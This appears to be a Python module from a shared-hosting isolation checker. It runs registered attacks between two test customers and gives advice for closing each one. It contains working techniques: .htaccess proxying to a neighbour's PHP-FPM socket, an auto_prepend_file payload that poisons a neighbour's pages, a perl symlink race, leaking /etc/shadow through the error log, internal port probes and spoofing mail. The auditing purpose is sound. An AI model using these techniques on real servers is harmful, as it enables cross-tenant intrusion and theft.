"""The attacks: what each is, how it is made, and what closes it.

Each gives what it got, or None when it got nothing. What it needs of the server (a shell for PHP,
say) and does not find there, an attacker would not have either.
"""

import base64
import secrets
import smtplib
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

from lightningspace.attack.field import Field, NotTried
from lightningspace.base import walls

__all__ = ["ATTACKS", "Attack", "NotTried"]

OVERRIDES = (
    "WALLS=narrow with its directives, or Apache with mpm_itk: see “Whose rights Apache has” in "
    "docs/hosting-server.md; `flask retry --check` puts right what was changed by hand"
)
DIRECTORIES = "“Who may look into what” in docs/hosting-server.md"
FIREWALL = "“Who may talk to what” in docs/hosting-server.md"
MAIL = "“Mail” in docs/hosting-server.md"
RACERS = 8


@dataclass(frozen=True)
class Attack:
    """`open_with`: the settings of WALLS with which it is known to be open."""

    name: str
    what: str
    advice: str
    run: Callable[[Field], str | None]
    open_with: tuple[str, ...] = ()


ATTACKS: list[Attack] = []


def attack(name: str, what: str, advice: str, open_with: tuple[str, ...] = ()):
    def register(run: Callable[[Field], str | None]):
        ATTACKS.append(Attack(name, what, advice, run, open_with))
        return run

    return register


def _first(proofs: Iterator[str | None]) -> str | None:
    return next((proof for proof in proofs if proof), None)


def _found(field: Field, text: str | None, where: str) -> str | None:
    """Whether a secret of the neighbour's is in what somebody got."""
    for mode, secret in field.secrets.items():
        if secret in (text or ""):
            return f"{where}: the neighbour's file of mode {mode:04o}"
    return None


# -- files: before anything is sent to PHP, for what is sent sticks in it ---------------------


@attack("files by PHP", "read a neighbour's files with PHP's own functions", OVERRIDES)
def files_by_php(field: Field) -> str | None:
    for mode in field.secrets:
        text = field.ask("read", path=field.path(mode)).get("text")
        if proof := _found(field, text, "file_get_contents"):
            return proof
    return None


@attack("shared /tmp", "read with PHP what others leave in /tmp", OVERRIDES)
def shared_tmp(field: Field) -> str | None:
    secret, path = secrets.token_hex(12), f"/tmp/walls-{secrets.token_hex(6)}"
    field.run(f"echo {secret} > {path}; chmod 644 {path}")
    text = field.ask("read", path=path).get("text") or ""
    field.run(f"rm -f {path}")
    return "file_get_contents read a file in /tmp" if secret in text else None


@attack(
    "files by a shell",
    "read a neighbour's files with programs that PHP starts",
    "web has mode 0710 since FTP works (FTP_UPLOADS); for the rest: " + DIRECTORIES,
)
def files_by_shell(field: Field) -> str | None:
    text = field.run("cat " + " ".join(map(field.path, field.secrets)))
    return _found(field, text, "cat")


@attack("directories", "list a neighbour's directories", DIRECTORIES)
def directories(field: Field) -> str | None:
    root = field.bobby.root
    places = (root.rpartition("/")[0], f"{root}/web", f"{root}/private", f"{root}/tmp")

    def look() -> str | None:
        listed = [path for path in places if "listed" in field.run(f"ls -A {path} && echo listed")]
        return f"ls {listed[0].removeprefix('/var/www/')}" if listed else None

    return field.patiently(look)


@attack("logs", "read a neighbour's logs", DIRECTORIES)
def logs(field: Field) -> str | None:
    places = f"/var/log/ispconfig/httpd/{field.bobby.name}/* {field.bobby.root}/log/*"
    read = f"for log in {places}; do head -c 1 $log >/dev/null 2>&1 && echo read $log; done"

    def look() -> str | None:
        found = [line for line in field.run(read).splitlines() if line.startswith("read ")]
        return found[0].removeprefix("read ") if found else None

    return field.patiently(look)


# -- .htaccess ------------------------------------------------------------------------


def _sockets(field: Field) -> list[str]:
    """Where the neighbour's PHP may listen."""
    name = f"web{field.bobby.number}.sock"
    found = field.run(f"ls -d /var/lib/php*-fpm/{name} /run/php/{name} /var/run/php/{name}")
    sockets = [line for line in found.splitlines() if line.startswith("/") and " " not in line]
    version = field.ask("look").get("version", "8.2")
    return sockets or [f"/var/lib/php{version}-fpm/{name}"]


WHO = "<?php echo exec('id -un');"


def _as_neighbour(field: Field, directory: str, lines: str, path: str) -> str | None:
    """Put a .htaccess into a directory of annie's, and look who runs what is asked for.

    A .phar is PHP that the site's own configuration leaves alone.
    """
    field.put(field.annie, {"who.phar": WHO, ".htaccess": lines}, directory)
    answer = field.get(field.annie, f"/{directory}/{path}")
    user = f"web{field.bobby.number}"
    if answer.status_code == 200 and answer.text.strip() == user:
        return f"GET /{directory}/{path} ran as the neighbour ({user})"
    return None


def _takeovers(field: Field, prefix: str) -> Iterator[str | None]:
    for number, socket in enumerate(_sockets(field)):
        at = f"unix:{socket}|fcgi://localhost"
        script = f"{field.bobby.root}/web/who.php"
        name = f"{prefix}{number}"
        rewrite = f"RewriteEngine on\nRewriteRule ^go$ {at}{script} [P]\n"
        yield _as_neighbour(field, f"{name}-proxy", rewrite, "go")
        for kind in ("SetHandler", "ForceType"):
            lines = f'<Files "who.phar">\n{kind} "proxy:{at}"\n</Files>\n'
            yield _as_neighbour(field, f"{name}-{kind.lower()}", lines, "who.phar")
        lines = f'AddHandler "proxy:{at}" .phar\nAddType "proxy:{at}" .phar\n'
        yield _as_neighbour(field, f"{name}-add", lines, "who.phar")
        lines = f'RewriteEngine on\nRewriteRule ^who.phar$ - [H="proxy:{at}"]\n'
        yield _as_neighbour(field, f"{name}-rule", lines, "who.phar")


@attack("takeover", "run code as a neighbour, through his PHP, by .htaccess", OVERRIDES)
def takeover(field: Field) -> str | None:
    return _first(_takeovers(field, "t"))


@attack("poison", "leave code in a neighbour's PHP that his visitors get", OVERRIDES)
def poison(field: Field) -> str | None:
    mark = f"mark{secrets.token_hex(6)}"
    code = base64.b64encode(f"<?php echo '{mark}';".encode()).decode()
    for number, socket in enumerate(_sockets(field)):
        lines = (
            f"SetEnv PHP_VALUE 'auto_prepend_file=\"data:text/plain;base64,{code}\"'\n"
            "SetEnv PHP_ADMIN_VALUE 'allow_url_include=1'\n"
            "RewriteEngine on\n"
            f"RewriteRule ^go$ unix:{socket}|fcgi://localhost{field.bobby.root}/web/none.php [P]\n"
        )
        field.put(field.annie, {".htaccess": lines}, f"p{number}")
        for _ in range(5):
            field.get(field.annie, f"/p{number}/go")
            if mark in field.get(field.bobby, "/who.php").text:
                return "the neighbour's next visitor got the code"
    return None


@attack(
    "own limits",
    "lift what PHP may open, by .htaccess",
    OVERRIDES,
    # It runs with the customer's rights all the same, and so does what it starts.
    open_with=(walls.MPM_ITK,),
)
def own_limits(field: Field) -> str | None:
    lines = "SetEnv PHP_ADMIN_VALUE 'open_basedir=/'\n"
    files = {".htaccess": lines, "read.php": "<?php echo @file_get_contents('/etc/passwd');"}
    field.put(field.annie, files, "limits")
    if "root:" in field.get(field.annie, "/limits/read.php").text:
        return "PHP read /etc/passwd"
    return None


@attack(
    "configuration",
    "read a neighbour's files, or the server's, by a .htaccess that is a link to them",
    OVERRIDES,
)
def configuration(field: Field) -> str | None:
    """What is no directive would be quoted in annie's own error log."""
    for path in (*map(field.path, field.secrets), "/etc/shadow"):
        _linked(field, path)
        said = _own_log(field)
        if proof := _found(field, said, "the error log quotes it"):
            return proof
        if "'root:" in said:
            return "the error log quotes the line of root in /etc/shadow"
    return None


@attack(
    "first words",
    "learn the first word of a neighbour's page, by a .htaccess that is a link to it",
    OVERRIDES,
    open_with=(walls.NARROW, walls.MPM_ITK),
)
def first_words(field: Field) -> str | None:
    _linked(field, f"{field.bobby.root}/web/page.xml")
    return "the error log quotes it" if field.first_word in _own_log(field) else None


def _own_log(field: Field) -> str:
    return field.run(f"tail -n 5 {field.annie.root}/log/error.log")


@attack("handlers", "have the web server run programs with its own rights, by .htaccess", OVERRIDES)
def handlers(field: Field) -> str | None:
    return _first(_handlers(field))


def _handlers(field: Field) -> Iterator[str | None]:
    field.get(field.bobby, "/who.php")  # which its status would tell
    who = "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'; echo ran as $(id -un)\n"
    tries = {
        "x": ("SetHandler server-status\n", "nothing"),
        "y": ("SetHandler server-info\n", "nothing"),
        "x.cgi": ("Options +ExecCGI\nAddHandler cgi-script .cgi\n", who),
        "x.shtml": (
            "Options +Includes\nAddOutputFilter INCLUDES .shtml\n",
            '<!--#exec cmd="echo ran as $(id -un)" -->',
        ),
    }
    for number, (path, (lines, program)) in enumerate(tries.items()):
        files = {path: program, ".htaccess": lines}
        field.put(field.annie, files, f"run{number}", mode=0o755)
        text = field.get(field.annie, f"/run{number}/{path}").text
        if field.bobby.name in text:
            yield f"{lines.split()[1]} tells of the neighbour"
        if "ran as www-data" in text or "ran as root" in text:
            yield f"{path} {text[text.index('ran as') :].split(chr(10))[0]}"


@attack("password files", "let in who is in a neighbour's password file", OVERRIDES)
def password_files(field: Field) -> str | None:
    lines = f'AuthType Basic\nAuthName x\nAuthUserFile "{field.bobby.root}/web/passwords"\n'
    field.put(field.annie, {".htaccess": f"{lines}Require valid-user\n", "x.txt": "in"}, "door")
    refused = field.get(field.annie, "/door/x.txt").status_code == 401
    let_in = field.get(field.annie, "/door/x.txt", auth=("walls", "password"))
    if refused and let_in.status_code == 200:
        return "the web server looked a password up in the neighbour's file"
    return None


@attack("contents", "learn what a neighbour's files say, by conditions in .htaccess", OVERRIDES)
def contents(field: Field) -> str | None:
    for mode, secret in field.secrets.items():
        path = field.path(mode)
        for name, lines in (
            ("error", f'ErrorDocument 404 "%{{file:{path}}}"\n'),
            ("redirect", f'Redirect "http://x.example/%{{file:{path}}}"\n'),
        ):
            answer = _answer(field, f"{name}{mode:o}", lines)
            if proof := _found(field, "".join(answer), name):
                return proof
        for name, condition in _conditions(f"file('{path}') =~ /{{}}/").items():
            right, wrong = (condition.format(word) for word in (secret, secret[::-1]))
            if _answer(field, f"{name}{mode:o}", right) != _answer(field, f"{name}{mode:o}", wrong):
                return f"{name}: it answers otherwise for what the file of mode {mode:04o} says"
    return None


@attack(
    "questions",
    "learn which files a neighbour has, by conditions in .htaccess",
    OVERRIDES,
    # No more than that, of a path that is known. Under mpm_itk conditions are read as root.
    open_with=(walls.NARROW, walls.MPM_ITK),
)
def questions(field: Field) -> str | None:
    there, not_there = field.path(0o600), f"{field.bobby.root}/web/not-there"
    conditions = _conditions("-f '{}'")
    conditions["iffile"] = '<IfFile "{}">\nRedirect /iffile/x /yes\n</IfFile>\n'
    for name, condition in conditions.items():
        answers = [_answer(field, name, condition.format(path)) for path in (there, not_there)]
        if answers[0] != answers[1]:
            return f"{name}: it answers otherwise for a file that is there"
    linked = [_linked(field, path) for path in (there, not_there)]
    return (
        "a link: it answers otherwise for a file that is there" if linked[0] != linked[1] else None
    )


def _linked(field: Field, path: str) -> int:
    """How a directory is answered whose .htaccess is a link to this."""
    field.put(field.annie, {"x.txt": "in"}, "linked")
    field.run(f"ln -sfn {path} {field.annie.root}/web/linked/.htaccess")
    return field.get(field.annie, "/linked/x.txt").status_code


def _conditions(expression: str) -> dict[str, str]:
    """Where a .htaccess may ask for something."""
    return {
        "if": f'<If "{expression}">\nRequire all denied\n</If>\n',
        "require": f'Require expr "{expression}"\n',
    }


def _answer(field: Field, directory: str, lines: str) -> tuple[str, str, str]:
    field.put(field.annie, {"y": "nothing", ".htaccess": lines}, directory)
    seen = [field.get(field.annie, f"/{directory}/{name}") for name in ("x", "y")]
    to = "".join(answer.headers.get("Location", "") for answer in seen)
    return str([answer.status_code for answer in seen]), to, "".join(each.text for each in seen)


@attack("links", "read a neighbour's files through a link", OVERRIDES)
def links(field: Field) -> str | None:
    lines = "Options +FollowSymLinks -SymLinksIfOwnerMatch\n"
    field.put(field.annie, {".htaccess": lines}, "links")
    for mode in field.secrets:
        field.run(f"ln -sfn {field.path(mode)} {field.annie.root}/web/links/{mode:o}.txt")
        answer = field.get(field.annie, f"/links/{mode:o}.txt")
        if proof := _found(field, answer.text, "a link"):
            return proof
    return None


FLIP = (
    "perl -e '$end = time + {seconds}; chdir qq({directory}) or die; while (time < $end) {{"
    " symlink qq({theirs}), qq(t); rename qq(t), qq(n.txt);"
    " link qq(own.txt), qq(o); rename qq(o), qq(n.txt); }} print qq(done)'"
)


@attack(
    "race",
    "read a neighbour's file by a link that is swapped while the server looks",
    "Apache with mpm_itk closes it, and nothing else does: see “Whose rights Apache has” in "
    "docs/hosting-server.md. Customers are told to keep secrets at 0600, which holds",
    open_with=(walls.NARROW,),
)
def race(field: Field) -> str | None:
    field.put(field.annie, {"own.txt": "her own"}, "race")
    for mode in (0o600, 0o644, 0o640):
        got, asked = _race(field, mode)
        if got:
            # The one that customers are told to keep is worse.
            return f"{got} of {asked} answers held the neighbour's file of mode {mode:04o}"
    return None


def _race(field: Field, mode: int) -> tuple[int, int]:
    command = FLIP.format(
        seconds=field.race_seconds,
        directory=f"{field.annie.root}/web/race",
        theirs=field.path(mode),
    )
    flipped: list[str] = []
    flipping = threading.Thread(target=lambda: flipped.append(field.run(command)))
    flipping.start()
    end = time.monotonic() + field.race_seconds

    def ask() -> list[bool]:
        answers = []
        while time.monotonic() < end and not any(answers):
            try:
                text = field.get(field.annie, "/race/n.txt").text
            except NotTried:  # mpm_itk cuts off who asks for what is not his
                text = ""
            answers.append(field.secrets[mode] in text)
        return answers

    with ThreadPoolExecutor(RACERS) as racers:
        answers = [each for asked in racers.map(lambda _: ask(), range(RACERS)) for each in asked]
    flipping.join()
    if "done" not in "".join(flipped):
        raise NotTried("the server has no perl for a customer's PHP")
    return sum(answers), len(answers)


# -- what listens on the server ------------------------------------------------------------


@attack(
    "PHP sockets",
    "run code as a neighbour, through his PHP's socket",
    "php_fpm_use_socket, which the shop sends: `flask retry --check`",
)
def php_sockets(field: Field) -> str | None:
    user, script = f"web{field.bobby.number}", f"{field.bobby.root}/web/who.php"
    # ISPConfig counts its ports from 9010 on.
    ports = [f"tcp://127.0.0.1:{port}" for port in (9000, 9009 + field.bobby.number)]
    for address in [f"unix://{socket}" for socket in _sockets(field)] + ports:
        text = field.ask("fastcgi", address=address, script=script).get("text") or ""
        if user in text:
            return f"{address} ran it as {user}"
    return None


@attack("panel", "reach the panel and its kind from a site", FIREWALL)
def local_ports(field: Field) -> str | None:
    ports = {8080: "the panel", 8081: "its apps", 6379: "Redis", 11211: "memcached"}
    ports |= {11334: "rspamd", 7634: "hddtemp"}
    reached = [
        f"{what} ({port})"
        for port, what in ports.items()
        if field.ask("connect", host="127.0.0.1", port=port).get("connected")
        or _reached_by_group(field, port)
    ]
    return ", ".join(reached) or None


def _reached_by_group(field: Field, port: int) -> str | None:
    """By a group of annie's that is not her client's: a firewall may know customers by that."""
    for group in field.run("id -Gn").split()[1:]:
        connect = f"timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && echo reached"
        if "reached" in field.run(f'sg {group} -c "{connect}"'):
            return group
    return None


@attack("port 25", "hand mail to a mail server without a login", FIREWALL)
def port_25(field: Field) -> str | None:
    to = f"info@{field.bobby.name}"
    for host in ("127.0.0.1", field.annie.host):
        said = field.ask("smtp", host=host, port=25, to=to, **{"from": "anybody@example.org"})
        if said.get("accepted"):
            return f"{host}: {said.get('text', '')[:60]}"
    group = _reached_by_group(field, 25)
    return f"127.0.0.1, as the group {group}" if group else None


@attack(
    "mail()",
    "send mail by PHP before MAIL_SEND_MIN_DAYS are paid",
    "custom_php_ini, which the shop sends: `flask retry --check`",
)
def php_mail(field: Field) -> str | None:
    if field.may_send():
        raise NotTried("MAIL_SEND_MIN_DAYS lets a new hosting send")
    sent = field.ask("mail", to=f"info@{field.bobby.name}").get("accepted")
    return "mail() says that it was sent" if sent else None


@attack("sendmail", "send mail by the program sendmail", MAIL)
def sendmail(field: Field) -> str | None:
    to = f"info@{field.bobby.name}"
    mail = "printf 'Subject: walls\\n\\nA check of the shop.\\n'"
    said = field.run(f"{mail} | /usr/sbin/sendmail {to} && echo sent")
    return "sendmail took a mail" if said.strip().endswith("sent") else None


@attack(
    "submission",
    "send mail with a mailbox that may not yet",
    "disablesmtp, which the shop sends: `flask retry --check`; does the mail server heed it?",
)
def submission(field: Field) -> str | None:
    if field.may_send():
        raise NotTried("MAIL_SEND_MIN_DAYS lets a new hosting send")
    return _send(field, lambda session: "the mailbox may log in to send")


@attack(
    "sender",
    "send mail as a neighbour, with a mailbox of one's own",
    "Mail → Reject sender and login mismatch, in the panel's server settings",
)
def sender(field: Field) -> str | None:
    field.let_annie_send()

    def as_neighbour(session: smtplib.SMTP) -> str | None:
        session.mail(f"info@{field.bobby.name}")
        code, _ = session.rcpt(f"info@{field.bobby.name}")
        return "it is taken from the neighbour's address" if code < 400 else None

    return _send(field, as_neighbour)


def _send(field: Field, step: Callable[[smtplib.SMTP], str | None]) -> str | None:
    """What comes of a step with the mail server, logged in; None when it lets nobody in."""
    try:
        with field.mail_login() as session:
            return step(session)
    except smtplib.SMTPAuthenticationError as error:
        if error.smtp_code < 500:
            raise NotTried(f"the mail server answered {error.smtp_code} to the login") from None
        return None
    except (OSError, smtplib.SMTPException) as error:
        raise NotTried(f"the mail server: {type(error).__name__}") from None


@attack(
    "crontab",
    "leave a program behind that outlives the hosting",
    "“What they may leave behind” in docs/hosting-server.md",
)
def crontab(field: Field) -> str | None:
    said = field.run("echo '0 0 1 1 * true' | crontab - && echo made && crontab -r")
    return "crontab took one" if "made" in said else None


# -- SSH ------------------------------------------------------------------------------------


@attack(
    "jail",
    "read a neighbour's files over SSH",
    "Jailkit, which the shop asks for: is it installed, and chroot “jailkit” at the shell user?",
)
def jail(field: Field) -> str | None:
    _need_a_shell(field)
    paths = " ".join(map(field.path, field.secrets))
    return _found(field, field.ssh(f"cat {paths}").stdout, "cat over SSH")


@attack("tunnels", "reach what listens inside the server over SSH", FIREWALL)
def tunnels(field: Field) -> str | None:
    _need_a_shell(field)
    for port in (8080, 8081, 25, 3306):
        through = field.ssh("-W", f"127.0.0.1:{port}")
        refused = "forwarding failed" in through.stderr or "prohibited" in through.stderr
        if not refused and (through.returncode == 0 or through.stdout):
            return f"127.0.0.1:{port}"
    return None


def _need_a_shell(field: Field) -> None:
    there = field.ssh("echo", "there")
    if "there" not in there.stdout:
        # Without a word where the jail is empty: Jailkit makes none below what is not root's.
        guess = "it ends at once; does root own the client's directory?"
        raise NotTried(f"no shell by SSH: {there.stderr.strip()[:100] or guess}")


# -- last, for it changes the site -------------------------------------------------------------


@attack("takeover without PHP", "the takeover, from a site whose PHP is switched off", OVERRIDES)
def takeover_without_php(field: Field) -> str | None:
    sockets = _sockets(field)
    field.change("site", field.annie.name, php=False)
    for number, socket in enumerate(sockets):
        at = f"unix:{socket}|fcgi://localhost{field.bobby.root}/web/who.php"
        lines = f"RewriteEngine on\nRewriteRule ^go$ {at} [P]\n"
        if proof := _as_neighbour(field, f"off{number}", lines, "go"):
            return proof
    return None
